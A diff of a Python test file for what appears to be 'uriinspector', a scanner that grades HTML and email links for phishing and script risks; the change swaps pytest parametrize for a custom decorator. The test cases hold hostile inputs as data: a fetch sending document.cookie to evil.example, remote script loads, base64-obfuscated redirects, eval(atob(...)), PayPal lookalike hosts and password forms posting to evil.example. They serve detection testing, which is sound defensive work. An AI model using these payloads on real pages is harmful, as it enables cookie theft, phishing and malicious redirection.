@@ -4,10 +4,9 @@ from __future__ import annotations
 
 import base64
 
-import pytest
-
 import uriinspector
 from tests.documents.mails import simple
+from tests.for_each import for_each
 from uriinspector.documents.cases.link_row import row_of
 from uriinspector.documents.judge import effect_of
 
@@ -30,61 +29,57 @@ def severity_of(page: str, code: str, *, mail: bool = False) -> str | None:
     return said(page, mail=mail).get(code, (None,))[0]
 
 
-@pytest.mark.parametrize(
-    ("element", "attribute", "effect"),
-    [
-        (None, None, None),
-        (None, "subject", None),
-        ("a", "href", "followed"),
-        ("form", "action", "followed"),
-        ("meta", "content", "followed"),
-        ("iframe", "src", "framed"),
-        ("object", "data", "framed"),
-        ("img", "srcset", "pictured"),
-        ("div", "style", "pictured"),
-        ("style", None, "pictured"),
-        ("link", "href", "pictured"),
-        ("script", "src", "scripted"),
-        ("script", None, "in code"),
-        ("a", "onclick", "in code"),
-        ("q", "cite", "named"),
-        ("param", "value", None),
-    ],
+@for_each(
+    "element, attribute, effect",
+    (None, None, None),
+    (None, "subject", None),
+    ("a", "href", "followed"),
+    ("form", "action", "followed"),
+    ("meta", "content", "followed"),
+    ("iframe", "src", "framed"),
+    ("object", "data", "framed"),
+    ("img", "srcset", "pictured"),
+    ("div", "style", "pictured"),
+    ("style", None, "pictured"),
+    ("link", "href", "pictured"),
+    ("script", "src", "scripted"),
+    ("script", None, "in code"),
+    ("a", "onclick", "in code"),
+    ("q", "cite", "named"),
+    ("param", "value", None),
 )
 def test_what_a_place_does(element: str | None, attribute: str | None, effect: str | None) -> None:
     assert effect_of(element, attribute) == effect
 
 
-@pytest.mark.parametrize(
-    ("page", "code", "severity"),
-    [
-        ("<a href='javascript:void(0)'>", "dangerous-scheme", "info"),
-        ("<a href='javascript:openMenu(1)'>", "dangerous-scheme", "low"),
-        ("<iframe src='javascript:x()'>", "dangerous-scheme", "low"),
-        ("<img src='javascript:x()'>", "dangerous-scheme", "medium"),
-        ("<a href='vbscript:x()'>", "dangerous-scheme", "high"),
-        ("<a href='ms-msdt:/id'>", "dangerous-scheme", "high"),
-        ("<a href='data:text/html,<script>x()</script>'>", "data-active", "high"),
-        ("<iframe src='data:text/html,<script>x()</script>'>", "data-active", "high"),
-        ("<img src='data:text/html,<script>x()</script>'>", "data-active", "info"),
-        ("<script src='data:text/javascript,x()'>", "data-active", "low"),
-        ("<script>x = 'data:text/javascript;base64'</script>", "data-active", "info"),
-        (
-            "<script>x = 'data:text/html;base64," + "PGI+" * 9 + "'</script>",
-            "data-active",
-            "medium",
-        ),
-        ("<a href='https://a.example/?a\nb'>", "control-char", "low"),
-        ("<a href='https://a.ex\nample/'>", "control-char", "medium"),
-        ("<a href='java\nscript:x()'>", "control-char", "high"),
-        ("<a href='http://'>", "empty-host", "low"),
-        ("<a href='http:////a.example/'>", "empty-host", "medium"),
-        ("<a href='https://www.paypal.com.kxqv.top/'>", "subdomain-deception", "high"),
-        ("<img src='https://www.paypal.com.kxqv.top/'>", "subdomain-deception", "low"),
-        ("<q cite='https://paypal.com@a.example/'>", "userinfo-deceptive", "low"),
-        ("<img src='https://paypal.com@a.example/'>", "userinfo-deceptive", "medium"),
-        ("<img src='file://a.example/x/y.png'>", "file-remote", "high"),
-    ],
+@for_each(
+    "page, code, severity",
+    ("<a href='javascript:void(0)'>", "dangerous-scheme", "info"),
+    ("<a href='javascript:openMenu(1)'>", "dangerous-scheme", "low"),
+    ("<iframe src='javascript:x()'>", "dangerous-scheme", "low"),
+    ("<img src='javascript:x()'>", "dangerous-scheme", "medium"),
+    ("<a href='vbscript:x()'>", "dangerous-scheme", "high"),
+    ("<a href='ms-msdt:/id'>", "dangerous-scheme", "high"),
+    ("<a href='data:text/html,<script>x()</script>'>", "data-active", "high"),
+    ("<iframe src='data:text/html,<script>x()</script>'>", "data-active", "high"),
+    ("<img src='data:text/html,<script>x()</script>'>", "data-active", "info"),
+    ("<script src='data:text/javascript,x()'>", "data-active", "low"),
+    ("<script>x = 'data:text/javascript;base64'</script>", "data-active", "info"),
+    (
+        "<script>x = 'data:text/html;base64," + "PGI+" * 9 + "'</script>",
+        "data-active",
+        "medium",
+    ),
+    ("<a href='https://a.example/?a\nb'>", "control-char", "low"),
+    ("<a href='https://a.ex\nample/'>", "control-char", "medium"),
+    ("<a href='java\nscript:x()'>", "control-char", "high"),
+    ("<a href='http://'>", "empty-host", "low"),
+    ("<a href='http:////a.example/'>", "empty-host", "medium"),
+    ("<a href='https://www.paypal.com.kxqv.top/'>", "subdomain-deception", "high"),
+    ("<img src='https://www.paypal.com.kxqv.top/'>", "subdomain-deception", "low"),
+    ("<q cite='https://paypal.com@a.example/'>", "userinfo-deceptive", "low"),
+    ("<img src='https://paypal.com@a.example/'>", "userinfo-deceptive", "medium"),
+    ("<img src='file://a.example/x/y.png'>", "file-remote", "high"),
 )
 def test_what_counts_where(page: str, code: str, severity: str) -> None:
     assert severity_of(page, code) == severity
@@ -100,7 +95,7 @@ def test_a_row_says_the_same_as_its_link() -> None:
         assert link.inspection.verdict.severity in {row.severity, "low"}
 
 
-@pytest.mark.parametrize("value", [" {} ", "\n\t{}", "{}\r\n"])
+@for_each("value", " {} ", "\n\t{}", "{}\r\n")
 def test_white_space_around_a_value_is_no_part_of_it(value: str) -> None:
     plain, spaced = (
         next(iter(uriinspector.scan(f"<a href='{each}'>x</a>", name="x.html").links))
@@ -117,41 +112,39 @@ def test_white_space_around_a_value_is_no_part_of_it(value: str) -> None:
         assert spaced.value[start:end] == plain.value[other.start : other.end]
 
 
-@pytest.mark.parametrize(
-    ("code", "severity", "words"),
-    [
-        ("location='https://evil.example/'", "high", "moves the window to evil.example"),
-        ("location.href = `//evil.example/`", "high", "moves the window to evil.example"),
-        ("top.location.replace('https://evil.example')", "high", "moves"),
-        ("%6cocation='https://evil.example/'", "high", "moves"),
-        ("location='ht'+'tps://evil.example/'", "high", "moves"),
-        ("location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')", "high", "evil.example"),
-        ("window.open('https://evil.example/')", "medium", "opens evil.example"),
-        ("document.links[0].href='https://evil.example/'", "medium", "changes"),
-        ("fetch('https://evil.example/?'+document.cookie)", "high", "send data to evil.example"),
-        ("document.forms[0].action='https://evil.example/'", "high", "send data"),
-        (
-            "s=document.createElement('script');s.src='//evil.example/x.js'",
-            "high",
-            "loads a script",
-        ),
-        ("import('https://evil.example/x.js')", "high", "loads a"),
-        ("eval(x)", "high", 'as it runs: "eval("'),
-        ("loc\\u0061tion=x", "high", "as it runs"),
-        ("window['loc'+x]=y", "high", "as it runs"),
-        ("document.write('<form action=x>')", "high", "markup"),
-        ("document.write('<script>x</script>')", "medium", "markup"),
-        ("location='https://www.paypal.com/'", "low", "www.paypal.com"),
-        ("location='https://home.example/x'", "info", "home.example"),
-        ("s=document.createElement('script');s.src='//assets.paypal.com/x.js'", "medium", "loads"),
-        ("location='/x'", None, ""),
-        ("location.reload()", None, ""),
-        ("history.back()", None, ""),
-        ("window.open('/help','x')", None, ""),
-        ("showImage('https://cdn.example/a.jpg')", None, ""),
-        ("this.src='https://cdn.example/a.jpg'", None, ""),
-        ("decrypt('nbjmup+jogp')", None, ""),
-    ],
+@for_each(
+    "code, severity, words",
+    ("location='https://evil.example/'", "high", "moves the window to evil.example"),
+    ("location.href = `//evil.example/`", "high", "moves the window to evil.example"),
+    ("top.location.replace('https://evil.example')", "high", "moves"),
+    ("%6cocation='https://evil.example/'", "high", "moves"),
+    ("location='ht'+'tps://evil.example/'", "high", "moves"),
+    ("location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')", "high", "evil.example"),
+    ("window.open('https://evil.example/')", "medium", "opens evil.example"),
+    ("document.links[0].href='https://evil.example/'", "medium", "changes"),
+    ("fetch('https://evil.example/?'+document.cookie)", "high", "send data to evil.example"),
+    ("document.forms[0].action='https://evil.example/'", "high", "send data"),
+    (
+        "s=document.createElement('script');s.src='//evil.example/x.js'",
+        "high",
+        "loads a script",
+    ),
+    ("import('https://evil.example/x.js')", "high", "loads a"),
+    ("eval(x)", "high", 'as it runs: "eval("'),
+    ("loc\\u0061tion=x", "high", "as it runs"),
+    ("window['loc'+x]=y", "high", "as it runs"),
+    ("document.write('<form action=x>')", "high", "markup"),
+    ("document.write('<script>x</script>')", "medium", "markup"),
+    ("location='https://www.paypal.com/'", "low", "www.paypal.com"),
+    ("location='https://home.example/x'", "info", "home.example"),
+    ("s=document.createElement('script');s.src='//assets.paypal.com/x.js'", "medium", "loads"),
+    ("location='/x'", None, ""),
+    ("location.reload()", None, ""),
+    ("history.back()", None, ""),
+    ("window.open('/help','x')", None, ""),
+    ("showImage('https://cdn.example/a.jpg')", None, ""),
+    ("this.src='https://cdn.example/a.jpg'", None, ""),
+    ("decrypt('nbjmup+jogp')", None, ""),
 )
 def test_what_code_in_a_link_does(code: str, severity: str | None, words: str) -> None:
     page = HOME + f'<a href="javascript:{code}">x</a>'
@@ -160,19 +153,17 @@ def test_what_code_in_a_link_does(code: str, severity: str | None, words: str) -
     assert words in (found[1] if found else "")
 
 
-@pytest.mark.parametrize(
-    ("page", "severity"),
-    [
-        ("<img src=a.png onerror=\"this.src='https://cdn.example/b.png'\">", "info"),
-        ("<img src=a.png onerror=\"location='https://evil.example/'\">", "high"),
-        ("<img src=a.png onerror=\"location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')\">", "high"),
-        ("<body onload=\"location='https://www.paypal.com/'\">", "low"),
-        ("<a href=https://a.example onclick=\"window.open('https://www.facebook.com/s')\">", "low"),
-        ("<a href=https://a.example onclick=\"window.open('https://evil.example/')\">", "medium"),
-        ("<a href=https://a.example onmousedown=\"this.href='https://b.example'\">", "medium"),
-        ("<a href=https://paypal.com onmousedown=\"this.href='https://b.example'\">", "high"),
-        ("<a href=https://a.example onclick=\"ga('https://b.example/')\">", "low"),
-    ],
+@for_each(
+    "page, severity",
+    ("<img src=a.png onerror=\"this.src='https://cdn.example/b.png'\">", "info"),
+    ("<img src=a.png onerror=\"location='https://evil.example/'\">", "high"),
+    ("<img src=a.png onerror=\"location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')\">", "high"),
+    ("<body onload=\"location='https://www.paypal.com/'\">", "low"),
+    ("<a href=https://a.example onclick=\"window.open('https://www.facebook.com/s')\">", "low"),
+    ("<a href=https://a.example onclick=\"window.open('https://evil.example/')\">", "medium"),
+    ("<a href=https://a.example onmousedown=\"this.href='https://b.example'\">", "medium"),
+    ("<a href=https://paypal.com onmousedown=\"this.href='https://b.example'\">", "high"),
+    ("<a href=https://a.example onclick=\"ga('https://b.example/')\">", "low"),
 )
 def test_what_event_handlers_do(page: str, severity: str) -> None:
     assert severity_of(page, "event-handler") == severity
@@ -181,21 +172,19 @@ def test_what_event_handlers_do(page: str, severity: str) -> None:
 CODED = base64.b64encode(b"https://evil.example/x").decode()
 
 
-@pytest.mark.parametrize(
-    ("page", "code", "severity"),
-    [
-        (f"<script>location=atob('{CODED}')</script>", "auto-redirect", "high"),
-        (f"<script>u='{CODED}';location=atob(u)</script>", "html-obfuscation", "medium"),
-        (f"<script>config('{CODED}')</script>", "html-obfuscation", "low"),
-        ("<script>location='https://evil.example'</script>", "auto-redirect", "medium"),
-        ("<script>window['location']='https://evil.example'</script>", "auto-redirect", "medium"),
-        ("<script>top.location = ( 'https://evil.example')</script>", "auto-redirect", "medium"),
-        ("<script>window['location']='/x'</script>", "auto-redirect", None),
-        ("<script>a='https://evil.example';location=a</script>", "auto-redirect", "medium"),
-        ("<script>a='https://evil.example';location=this.x</script>", "auto-redirect", None),
-        (HOME + "<script>a='https://evil.example';location=a</script>", "auto-redirect", None),
-        (HOME + "<script>location='https://home.example'</script>", "auto-redirect", "low"),
-    ],
+@for_each(
+    "page, code, severity",
+    (f"<script>location=atob('{CODED}')</script>", "auto-redirect", "high"),
+    (f"<script>u='{CODED}';location=atob(u)</script>", "html-obfuscation", "medium"),
+    (f"<script>config('{CODED}')</script>", "html-obfuscation", "low"),
+    ("<script>location='https://evil.example'</script>", "auto-redirect", "medium"),
+    ("<script>window['location']='https://evil.example'</script>", "auto-redirect", "medium"),
+    ("<script>top.location = ( 'https://evil.example')</script>", "auto-redirect", "medium"),
+    ("<script>window['location']='/x'</script>", "auto-redirect", None),
+    ("<script>a='https://evil.example';location=a</script>", "auto-redirect", "medium"),
+    ("<script>a='https://evil.example';location=this.x</script>", "auto-redirect", None),
+    (HOME + "<script>a='https://evil.example';location=a</script>", "auto-redirect", None),
+    (HOME + "<script>location='https://home.example'</script>", "auto-redirect", "low"),
 )
 def test_addresses_in_scripts(page: str, code: str, severity: str | None) -> None:
     assert severity_of(page, code) == severity
@@ -206,7 +195,7 @@ def test_a_small_page_in_a_message_that_moves_on() -> None:
     assert severity_of(page, "auto-redirect", mail=True) == "high"
 
 
-@pytest.mark.parametrize("packed", ["base64", "percent"])
+@for_each("packed", "base64", "percent")
 def test_a_page_in_a_string_of_a_script(packed: str) -> None:
     inner = "<html><form action=https://evil.example/a><input type=password></form></html>"
     if packed == "base64":
@@ -225,15 +214,13 @@ def test_a_page_in_a_string_of_a_script(packed: str) -> None:
         assert source == "https://evil.example/a"
 
 
-@pytest.mark.parametrize(
-    ("code", "runs"),
-    [
-        ("eval(atob(x))", True),
-        ("new Function( window.atob('eA=='))()", True),
-        ("setTimeout(unescape('%61'), 1)", True),
-        ("evaluate(atob(x))", False),
-        ("x = atob(y)", False),
-    ],
+@for_each(
+    "code, runs",
+    ("eval(atob(x))", True),
+    ("new Function( window.atob('eA=='))()", True),
+    ("setTimeout(unescape('%61'), 1)", True),
+    ("evaluate(atob(x))", False),
+    ("x = atob(y)", False),
 )
 def test_code_that_is_decoded_is_not_checked(code: str, runs: bool) -> None:
     document = uriinspector.scan(f"<script>{code}</script>", name="x.html")
@@ -256,52 +243,46 @@ def test_only_so_many_packed_pages_are_opened() -> None:
     assert "pages in scripts" in document.not_examined[0].reason
 
 
-@pytest.mark.parametrize(
-    ("tag", "severity"),
-    [
-        ("<a href=https://a.example/ ping=https://b.example/>", "low"),
-        ("<a href=https://a.example/ ping=https://www.a.example/x>", None),
-        ("<a ping='/x https://b.example/'>", "low"),
-    ],
+@for_each(
+    "tag, severity",
+    ("<a href=https://a.example/ ping=https://b.example/>", "low"),
+    ("<a href=https://a.example/ ping=https://www.a.example/x>", None),
+    ("<a ping='/x https://b.example/'>", "low"),
 )
 def test_a_ping_tells_another_site(tag: str, severity: str | None) -> None:
     assert severity_of(tag, "click-ping") == severity
 
 
-@pytest.mark.parametrize(
-    ("field", "asked"),
-    [
-        ("<input type=password>", True),
-        ("<input name=userPassword>", True),
-        ("<input type=text placeholder='Mot de passe'>", True),
-        ("<input type=text id=pwd>", True),
-        ("<input autocomplete=current-password>", True),
-        ("<input aria-label=Password>", True),
-        ("<input title=Password>", False),
-        *((f"<input type={kind} name=pin-password>", True) for kind in ("number", "email")),
-        ("<input type=search name=passcode>", True),
-        ("<input type=date name=passcode>", False),
-        ("<input type=tel style='-webkit-text-security:disc'>", True),
-        ("<input placeholder=Contraseña>", True),
-        ("<input name=passenger>", False),
-        ("<input name=compass>", False),
-        ("<input type=hidden name=password>", False),
-        ("<input type=checkbox name=showpassword>", False),
-    ],
+@for_each(
+    "field, asked",
+    ("<input type=password>", True),
+    ("<input name=userPassword>", True),
+    ("<input type=text placeholder='Mot de passe'>", True),
+    ("<input type=text id=pwd>", True),
+    ("<input autocomplete=current-password>", True),
+    ("<input aria-label=Password>", True),
+    ("<input title=Password>", False),
+    *((f"<input type={kind} name=pin-password>", True) for kind in ("number", "email")),
+    ("<input type=search name=passcode>", True),
+    ("<input type=date name=passcode>", False),
+    ("<input type=tel style='-webkit-text-security:disc'>", True),
+    ("<input placeholder=Contraseña>", True),
+    ("<input name=passenger>", False),
+    ("<input name=compass>", False),
+    ("<input type=hidden name=password>", False),
+    ("<input type=checkbox name=showpassword>", False),
 )
 def test_who_asks_for_a_password(field: str, asked: bool) -> None:
     page = f"<form action=https://evil.example/>{field}</form>"
     assert severity_of(page, "form-action", mail=True) == ("high" if asked else "low")
 
 
-@pytest.mark.parametrize(
-    ("page", "severity"),
-    [
-        ("<svg xml:base='https://evil.example/'><a href=x>", None),
-        ("<?xml version='1.0'?><html xml:base='https://evil.example/'><a href=x>", "medium"),
-        ("<html xml:base='https://evil.example/'><a href=x>", "low"),
-        ("<html xml:base='/x/'><a href=x>", None),
-    ],
+@for_each(
+    "page, severity",
+    ("<svg xml:base='https://evil.example/'><a href=x>", None),
+    ("<?xml version='1.0'?><html xml:base='https://evil.example/'><a href=x>", "medium"),
+    ("<html xml:base='https://evil.example/'><a href=x>", "low"),
+    ("<html xml:base='/x/'><a href=x>", None),
 )
 def test_a_base_of_xml_is_told(page: str, severity: str | None) -> None:
     if page.startswith("<svg"):
@@ -310,17 +291,15 @@ def test_a_base_of_xml_is_told(page: str, severity: str | None) -> None:
         assert severity_of(page, "base-hijack") == severity
 
 
-@pytest.mark.parametrize(
-    ("text", "href", "severity"),
-    [
-        ("Log in to PayPal", "https://evil.example/", "medium"),
-        ("PayPal", "https://evil.example/", "low"),
-        ("PayPal-Konto bestätigen", "https://evil.example/", "medium"),
-        ("PayPal", "https://www.paypal.com/", None),
-        ("Log in to Paypal at paypal.com", "https://evil.example/", None),
-        ("Update your Account", "https://evil.example/", None),
-        ("PayPal " * 12, "https://evil.example/", None),
-    ],
+@for_each(
+    "text, href, severity",
+    ("Log in to PayPal", "https://evil.example/", "medium"),
+    ("PayPal", "https://evil.example/", "low"),
+    ("PayPal-Konto bestätigen", "https://evil.example/", "medium"),
+    ("PayPal", "https://www.paypal.com/", None),
+    ("Log in to Paypal at paypal.com", "https://evil.example/", None),
+    ("Update your Account", "https://evil.example/", None),
+    ("PayPal " * 12, "https://evil.example/", None),
 )
 def test_a_known_name_in_the_words_of_a_link(text: str, href: str, severity: str | None) -> None:
     page = f'<a href="{href}">{text}</a>'
@@ -328,51 +307,45 @@ def test_a_known_name_in_the_words_of_a_link(text: str, href: str, severity: str
     assert severity_of(page, "known-name-elsewhere") is None
 
 
-@pytest.mark.parametrize(
-    ("page", "severity"),
-    [
-        ("<a href='https://evil.example/' style='display:none'>x</a>", "medium"),
-        (
-            "<a href='https://a.example/' style='display:none'>x</a><a href='https://a.example'>",
-            "low",
-        ),
-        ("<a href='https://evil.example/' hidden>x</a>", "low"),
-        ("<a href='#x' style='display:none'>x</a>", "low"),
-    ],
+@for_each(
+    "page, severity",
+    ("<a href='https://evil.example/' style='display:none'>x</a>", "medium"),
+    (
+        "<a href='https://a.example/' style='display:none'>x</a><a href='https://a.example'>",
+        "low",
+    ),
+    ("<a href='https://evil.example/' hidden>x</a>", "low"),
+    ("<a href='#x' style='display:none'>x</a>", "low"),
 )
 def test_a_hidden_link_in_a_message(page: str, severity: str) -> None:
     assert severity_of(page, "hidden-link", mail=True) == severity
 
 
-@pytest.mark.parametrize(
-    ("href", "severity"),
-    [
-        ("https&#58;//a.example/", "info"),
-        ("https:&#x2F;&#x2F;a.example&#x2F;x", "info"),
-        ("https://&#97;.example/", "low"),
-        ("&#104;ttps://a.example/", "medium"),
-        ("https://&#97;bc.&#101;x&#97;mple/", "medium"),
-        ("https://a.example/&#97;&#98;&#99;&#100;", "info"),
-        ("mailto:&#105;&#110;&#102;&#111;@a.example", "info"),
-        ("&#116;&#101;&#108;:+49-30-1", "info"),
-        ("&#115;&#109;&#115;:+49-30-1", "info"),
-        ("&#102;&#116;&#112;://a.example/", "medium"),
-        ("/&#97;&#98;&#99;", "info"),
-    ],
+@for_each(
+    "href, severity",
+    ("https&#58;//a.example/", "info"),
+    ("https:&#x2F;&#x2F;a.example&#x2F;x", "info"),
+    ("https://&#97;.example/", "low"),
+    ("&#104;ttps://a.example/", "medium"),
+    ("https://&#97;bc.&#101;x&#97;mple/", "medium"),
+    ("https://a.example/&#97;&#98;&#99;&#100;", "info"),
+    ("mailto:&#105;&#110;&#102;&#111;@a.example", "info"),
+    ("&#116;&#101;&#108;:+49-30-1", "info"),
+    ("&#115;&#109;&#115;:+49-30-1", "info"),
+    ("&#102;&#116;&#112;://a.example/", "medium"),
+    ("/&#97;&#98;&#99;", "info"),
 )
 def test_where_characters_are_written_by_number(href: str, severity: str) -> None:
     assert severity_of(f"<a href='{href}'>x</a>", "html-obfuscation") == severity
 
 
-@pytest.mark.parametrize(
-    ("before", "severity"),
-    [
-        ("", "medium"),
-        ("<link rel=canonical href=https://www.own.example/x>", "low"),
-        ("<link rel=icon href=https://own.example/x>", "medium"),
-        ("<link rel=canonical href=https://www.paypal.com/>", "medium"),
-        ("<a href=https://own.example/1>x</a>" * 6, "low"),
-    ],
+@for_each(
+    "before, severity",
+    ("", "medium"),
+    ("<link rel=canonical href=https://www.own.example/x>", "low"),
+    ("<link rel=icon href=https://own.example/x>", "medium"),
+    ("<link rel=canonical href=https://www.paypal.com/>", "medium"),
+    ("<a href=https://own.example/1>x</a>" * 6, "low"),
 )
 def test_a_page_that_asks_for_a_password_on_a_site_of_its_own(before: str, severity: str) -> None:
     form = "<form action=https://own.example/login><input type=password></form>"
